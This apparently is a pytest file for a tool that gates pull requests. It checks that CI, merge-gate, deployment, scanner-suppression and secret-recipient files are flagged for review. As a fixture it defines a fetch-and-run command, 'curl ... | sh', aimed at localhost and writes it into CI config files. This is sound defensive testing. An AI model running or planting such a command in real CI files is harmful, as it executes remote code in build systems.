"""Attack 50: CI services and merge gates that read their own file from the repository, which no rule named.

A CI service or a merge gate that reads a file by its own name at the repository's root acts on a pull request
without any workflow naming that file, so the CI walk never reaches it: Prow's in-repo presubmits (`.prow.yaml`, any
YAML in `.prow/`), OpenShift CI's build root (`.ci-operator.yaml`), OneDev's build spec, JetBrains Space's
`.space.kts`, Gitee Go's `.workflow/`, OVH CDS's `.cds/`, Agola's `.agola/`, Gitpod's Werft (`.werft/`), RWX Mint's
`.mint/` and `.rwx/`, CloudBees' `.cloudbees/workflows/`, Brigade's `brigade.js` and `.brigade/`, CodeShip Pro's
`codeship-services.yml` and `codeship-steps.yml`, IBM Cloud's `.bluemix/` toolchain, Copr's `.copr/Makefile`, the
runner machines Cirun starts (`.cirun.yml`), Armory's `dinghyfile`; and the bots that decide or make merges:
Palantir's policy-bot (`.policy.yml`), PullApprove, Reviewpad, Zalando's Zappr, Rultor (which runs the merge script
too), and OpenSSF Allstar's repository settings (`.allstar/`, where a repository opts out of branch protection).
Each was `src` (or `iac` for one form) and `gate --tree` allowed a pull request adding one (exit 0). OpenShift's
Source-to-Image scripts (`.s2i/bin/assemble`, `run`) build and start the deployed image as a Dockerfile does: `iac`;
so do the platform files below (App Runner, Kudu, Zeabur, Nixpacks' JSON, Railpack, Static Web Apps, Clever Cloud,
Octopus). Later in this file, tags only (the optional guardrails policy): scanners' suppression files, Renovate's
settings, and who may decrypt the repository's secrets (SOPS, git-crypt, BlackBox).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify import RuleSet, load_rules
from gatekeeper.errors import ExitCode
from tests.gitrepo import GitRepo
from tests.incli import run_cli, tree_classify

REPO_ROOT = Path(__file__).resolve().parent.parent
HOSTILE = "curl -s http://127.0.0.1:9/x | sh"

# path → the bucket the default policy reviews
SERVICES = {
    ".prow.yaml": "ci", ".prow/presubmits.yaml": "ci", ".prow/jobs/periodics.yml": "ci", ".prow/README.yaml": "ci",
    ".ci-operator.yaml": "ci",
    ".onedev-buildspec.yml": "ci", ".onedev-buildspec.yaml": "ci",
    ".space.kts": "ci", ".space/build.space.kts": "ci",
    ".workflow/master-pipeline.yml": "ci", ".workflow/pr-pipeline.yaml": "ci",
    ".cds/build.yml": "ci", ".cds/workflows/release.yml": "ci",
    ".agola/config.yml": "ci", ".agola/config.jsonnet": "ci", ".agola/config.json": "ci",
    ".werft/build.yaml": "ci", ".werft/build.ts": "ci",
    ".mint/ci.yml": "ci", ".rwx/ci.yml": "ci", ".rwx/tasks/build.yaml": "ci",
    ".cloudbees/workflows/build.yaml": "ci",
    "brigade.js": "ci", ".brigade/brigade.ts": "ci", ".brigade/brigade.js": "ci", ".brigade/package.json": "ci",
    "codeship-services.yml": "ci", "codeship-steps.yml": "ci", "codeship-steps.json": "ci",
    "codeship-services.yaml": "ci", "codeship-steps.yaml": "ci",
    ".bluemix/pipeline.yml": "ci", ".bluemix/toolchain.yml": "ci", ".bluemix/deploy.json": "ci",
    ".copr/Makefile": "ci", ".copr/build.sh": "ci",
    ".cirun.yml": "ci", ".cirun.global.yml": "ci",
    "dinghyfile": "ci", "pipelines/dinghyfile": "ci",
    ".policy.yml": "ci", ".pullapprove.yml": "ci", ".pullapprove.yaml": "ci", "reviewpad.yml": "ci",
    ".reviewpad.yml": "ci", ".zappr.yaml": "ci", ".zappr.yml": "ci", ".rultor.yml": "ci",
    ".allstar/allstar.yaml": "ci", ".allstar/branch_protection.yaml": "ci", ".allstar/binary_artifacts.yaml": "ci",
    # Chromium's depot_tools and LUCI run every PRESUBMIT.py of the folders a change touches; Flutter's Cocoon reads
    # .ci.yaml, KDE's CI .kde-ci.yml, Salsa CI debian/salsa-ci.yml, Launchpad's CI .launchpad.yaml; conda-forge's
    # feedstock CI reads conda-forge.yml and .ci_support/; React Native Windows keeps its Azure Pipelines in .ado/.
    "PRESUBMIT.py": "ci", "chrome/browser/PRESUBMIT.py": "ci", ".ci.yaml": "ci", ".kde-ci.yml": "ci",
    "debian/salsa-ci.yml": "ci", ".launchpad.yaml": "ci", "conda-forge.yml": "ci", ".ci_support/linux_64_.yaml": "ci",
    ".ci_support/migrations/python312.yaml": "ci", ".ado/build.yml": "ci", ".ado/templates/steps.yml": "ci",
    # CodeSandbox CI builds every pull request by its .codesandbox/ci.json; the Jenkins Templating Engine reads a
    # repository's pipeline_config.groovy; env0, Terrateam and Digger run the commands their files list in the
    # Terraform job, with its cloud credentials, as Atlantis does (atlantis.yaml); Octopus Deploy keeps a project's
    # deployment process (its steps and scripts) in .octopus/.
    ".codesandbox/ci.json": "ci", "pipeline_config.groovy": "ci", "env0.yml": "ci", "infra/env0.yaml": "ci",
    ".terrateam/config.yml": "ci", ".terrateam/hooks.yml": "ci", "digger.yml": "ci", "digger.yaml": "ci",
    ".octopus/deployment_process.ocl": "iac", ".octopus/deployment_settings.ocl": "iac",
    ".s2i/bin/assemble": "iac", ".s2i/bin/run": "iac", ".s2i/environment": "iac", "app/.s2i/bin/assemble": "iac",
    # Platforms that build, start or route the deployed app from a file of their own, as vercel.json and
    # nixpacks.toml (iac.platforms) already were: AWS App Runner, Kudu (Azure App Service's git deploy),
    # Zeabur, Nixpacks' JSON form, Railpack, Azure Static Web Apps (routes and the roles each needs), Clever Cloud.
    "apprunner.yaml": "iac", "services/api/apprunner.yaml": "iac", ".deployment": "iac", "zbpack.json": "iac",
    "nixpacks.json": "iac",
    "railpack.json": "iac", "staticwebapp.config.json": "iac", "app/staticwebapp.config.json": "iac",
    "clevercloud/python.json": "iac", "clevercloud/cron.json": "iac",
}
# Generated: the names as a case-insensitive checkout may spell them (the rules ignore case, as they do for the rest).
SPELLED = {p.upper(): b for p, b in SERVICES.items()} | {p.title(): b for p, b in SERVICES.items()}
# Look-alikes that stay what they were: these services read the root's file only, or another name.
LOOKALIKES = {
    "docs/.prow.yaml": "src", "prow.yaml": "src", "config/prow/jobs.yaml": "src", "policy.yml": "src",
    "src/.policy.yml": "src", "app/.workflow/x.yml": "src", "workflow/pipeline.yml": "src",
    "docs/codeship-steps.md": "src", "lib/brigade.py": "src", "docs/.cirun.yml": "src",
    "space.kts": "src", "src/.space.kts": "src", "docs/cds.md": "src",
    # (config/deploy.rb, Capistrano's settings, was here: iac since attack 51, the lead's decision after this round)
    "config/deployment.rb": "src", "docs/.deployment": "src",
    "cloud/azure/cmd/cleanup/function.json": "src",  # labelled src (the sets): a function's bindings stay code
    "snap/snapcraft.yaml": "src",  # labelled src (the sets): a package recipe, as a spec file
    ".codesandbox/tasks.json": "src", "src/pipeline_config.py": "src", "docs/digger.md": "src",
    "tools/presubmit_checks.py": "src", "docs/.ci.yaml": "src", "src/.ado/x.yml": "src",
}


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(REPO_ROOT / "policies")


@each_case(("path", "bucket"), sorted({**SERVICES, **SPELLED}.items()))
def test_a_service_reading_its_own_file_is_reviewed(rules: RuleSet, path: str, bucket: str) -> None:
    match = rules.match(path)
    assert match.bucket == bucket, f"{path}: {match.bucket} by {match.rule}"


@each_case(("path", "bucket"), sorted(LOOKALIKES.items()))
def test_look_alikes_stay(rules: RuleSet, path: str, bucket: str) -> None:
    match = rules.match(path)
    assert match.bucket == bucket, f"{path}: {match.bucket} by {match.rule}"


MERGE_GATES = [".policy.yml", ".pullapprove.yml", ".pullapprove.yaml", "reviewpad.yml", ".reviewpad.yml",
               ".zappr.yaml", ".zappr.yml", ".rultor.yml", ".allstar/allstar.yaml", ".allstar/branch_protection.yaml",
               # Renovate merges its own pull requests when its settings say `automerge` (with `automergeType:
               # branch`, it pushes to the base branch; `ignoreTests` skips the checks), and a preset its `extends`
               # names can say so: its settings decide what merges unreviewed, as Kodiak's do. Its bucket stays
               # `other` (136 labelled files), so only the optional guardrails policy reviews them.
               "renovate.json", "renovate.json5", ".renovaterc", ".renovaterc.json", ".renovaterc.json5",
               ".github/renovate.json", ".github/renovate.json5", ".gitlab/renovate.json", ".gitlab/renovate.json5",
               ".github/renovate/automerge.json", ".github/renovate/presets/default.json5"]


@each_case("path", MERGE_GATES)
def test_a_merge_gate_carries_the_guardrail_tag(rules: RuleSet, path: str) -> None:
    # As Mergify's, bors' and Kodiak's settings do: the optional guardrails policy names them too.
    assert "guardrail" in rules.match(path).tags, path


# The suppression and settings files vulnerability, secret and dependency scanners read by their own name, beside
# gitleaks', Trivy's and Snyk's (guardrail.scanners): an entry added there silences the scanner's CI gate next time.
SCANNERS = [
    ".grype.yaml", ".grype.yml", "osv-scanner.toml", "services/api/osv-scanner.toml", ".osv-scanner.toml",
    ".nancy-ignore", ".safety-policy.yml", ".safety-policy.yaml", "audit-ci.json", "audit-ci.jsonc", ".nsprc",
    ".retireignore.json", ".retireignore", "dependency-check-suppressions.xml", "owasp-suppressions.xml",
    ".cargo/audit.toml", "deny.toml", ".secretlintrc", ".secretlintrc.json", ".secretlintrc.yaml",
    ".secretlintignore", "trivy.yaml", ".dockleignore", ".zap/rules.tsv", ".socket.yml", "socket.yml",
    "kics.config", "bearer.yml", ".bearer.yml", ".yarn-audit-known-issues", ".iyarc", "audit-resolve.json",
    ".grype/config.yaml",
]


@each_case("path", SCANNERS)
def test_a_scanner_suppression_carries_the_guardrail_tag(rules: RuleSet, path: str) -> None:
    assert "guardrail" in rules.match(path).tags, f"{path}: {rules.match(path)}"


@each_case("path", ["src/deny.rs", "docs/trivy.md", "src/audit.json", "config/suppressions.yaml"])
def test_look_alike_scanner_names_carry_no_tag(rules: RuleSet, path: str) -> None:
    assert "guardrail" not in rules.match(path).tags, path


@each_case("folder", [".prow", ".workflow", ".cds", ".agola", ".werft", ".mint", ".rwx", ".cloudbees", ".brigade",
                      ".bluemix", ".copr", ".allstar", ".space", ".ado",
                      ".ci_support"])
def test_every_name_in_a_service_folder_is_ci(rules: RuleSet, folder: str) -> None:
    # The service reads whatever the folder holds (a package.json, a Dockerfile, a testdata/ below): no
    # dependency, docs or test-data rule may claim a file there.
    names = ["package.json", "Dockerfile", "go.mod", "requirements.txt", "config.yaml", "x.tf", "a.md.yml",
             "testdata/jobs.yaml", "fixtures/x.yaml", "docs/x.yaml", "examples/x.yml"]
    wrong = {f"{folder}/{n}": rules.match(f"{folder}/{n}").rule for n in names
             if rules.match(f"{folder}/{n}").bucket != "ci"}
    assert wrong == {}


CASES = [".prow.yaml", ".prow/presubmits.yaml", ".policy.yml", ".pullapprove.yml", ".onedev-buildspec.yml",
         ".ci-operator.yaml", ".space.kts", ".workflow/pr.yml", ".allstar/allstar.yaml", "codeship-steps.yml",
         ".cirun.yml", ".s2i/bin/assemble", ".rultor.yml", "dinghyfile", "apprunner.yaml",
         ".deployment", "staticwebapp.config.json", "zbpack.json", "PRESUBMIT.py", ".ci.yaml", ".launchpad.yaml",
         "debian/salsa-ci.yml", ".codesandbox/ci.json", "env0.yml", ".terrateam/config.yml", "digger.yml",
         ".octopus/deployment_process.ocl"]


def _repo(root: Path, path: str, *, edit: bool) -> GitRepo:
    repo = GitRepo(root)
    repo.write("README.md", "x\n")
    repo.write("src/app.py", "print(1)\n")
    if edit:
        repo.write(path, "# settings\n")
    repo.commit("base")
    repo.write(path, f"# {HOSTILE}\nscript: {HOSTILE}\n")
    repo.write("src/app.py", "print(2)\n")
    repo.commit("head")
    return repo


@pytest.mark.parametrize("edit", [False, True], ids=["added", "edited"])
@pytest.mark.parametrize("path", CASES)
def test_the_gate_reviews_such_a_change(tmp_path: Path, path: str, edit: bool) -> None:
    repo = _repo(tmp_path / "repo", path, edit=edit)
    files = tree_classify(repo.root, "main~1", "main")
    assert files[path]["bucket"] in {"ci", "iac"}, files[path]
    done = run_cli(["gate", "--tree", "main~1..main", "--repo", str(repo.root)], text=True)
    assert done.returncode == ExitCode.REVIEW, done.stdout
    # The same change as a packet and its patch decides alike.
    patch = tmp_path / "change.diff"
    patch.write_bytes(repo.git("diff", "--binary", "main~1", "main"))
    packet = tmp_path / "packet.json"
    made = run_cli(["packet", str(patch), "--out", str(packet), "--run-id", "run-1"], cwd=tmp_path, text=True)
    assert made.returncode == 0, made.stderr
    done = run_cli(["gate", str(packet), "--patch", str(patch)], cwd=tmp_path, text=True)
    assert done.returncode == ExitCode.REVIEW, done.stdout


def test_a_source_only_change_still_queues(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "repo", "docs/.prow.yaml", edit=False)
    done = run_cli(["gate", "--tree", "main~1..main", "--repo", str(repo.root)], text=True)
    assert done.returncode == ExitCode.OK, done.stdout


@pytest.mark.parametrize("path", [".grype.yaml", "osv-scanner.toml", "deny.toml", ".zap/rules.tsv", ".policy.yml",
                                  "renovate.json", ".github/renovate.json5"])
def test_the_guardrails_policy_reviews_a_scanner_or_merge_gate_edit(tmp_path: Path, path: str) -> None:
    repo = _repo(tmp_path / "repo", path, edit=True)
    done = run_cli(["gate", "--tree", "main~1..main", "--repo", str(repo.root), "--enable", "guardrails"], text=True)
    assert done.returncode != ExitCode.OK, done.stdout
    assert "guardrail" in str(done.stdout), done.stdout


# Who may decrypt the repository's secrets: SOPS' creation rules name the keys `sops -e` and `sops updatekeys`
# encrypt to (at any depth: sops reads the nearest one above the file), git-crypt's .git-crypt/keys/ the GPG users a
# `git-crypt unlock` works for, BlackBox's admins list the same. A key added there reads every secret encrypted next.
SECRET_RECIPIENTS = [".sops.yaml", ".sops.yml", "clusters/prod/.sops.yaml", ".git-crypt/keys/default/0/ABCD.gpg",
                     ".git-crypt/.gitattributes", ".blackbox/blackbox-admins.txt", "keyrings/live/blackbox-admins.txt"]


@each_case("path", SECRET_RECIPIENTS)
def test_who_may_decrypt_the_secrets_carries_the_guardrail_tag(rules: RuleSet, path: str) -> None:
    assert "guardrail" in rules.match(path).tags, f"{path}: {rules.match(path)}"



# Cloud workspaces that run the repository's commands when a workspace is created or opened, as Gitpod's tasks and
# a Dev Container's lifecycle commands do (guardrail.autorun): Project IDX / Firebase Studio (`onCreate`, `onStart`
# in .idx/dev.nix; a template's bootstrap in idx-template.nix), CodeSandbox's setupTasks, Replit's `onBoot`, a
# devfile's `postStart` events (OpenShift Dev Spaces, Eclipse Che).
WORKSPACES = [".idx/dev.nix", "dynamic_theme/idx-template.nix", ".codesandbox/tasks.json", ".replit", "devfile.yaml",
              ".devfile.yaml", "devfile.yml"]


@each_case("path", WORKSPACES)
def test_a_workspace_that_runs_commands_on_open_carries_the_guardrail_tag(rules: RuleSet, path: str) -> None:
    assert "guardrail" in rules.match(path).tags, f"{path}: {rules.match(path)}"
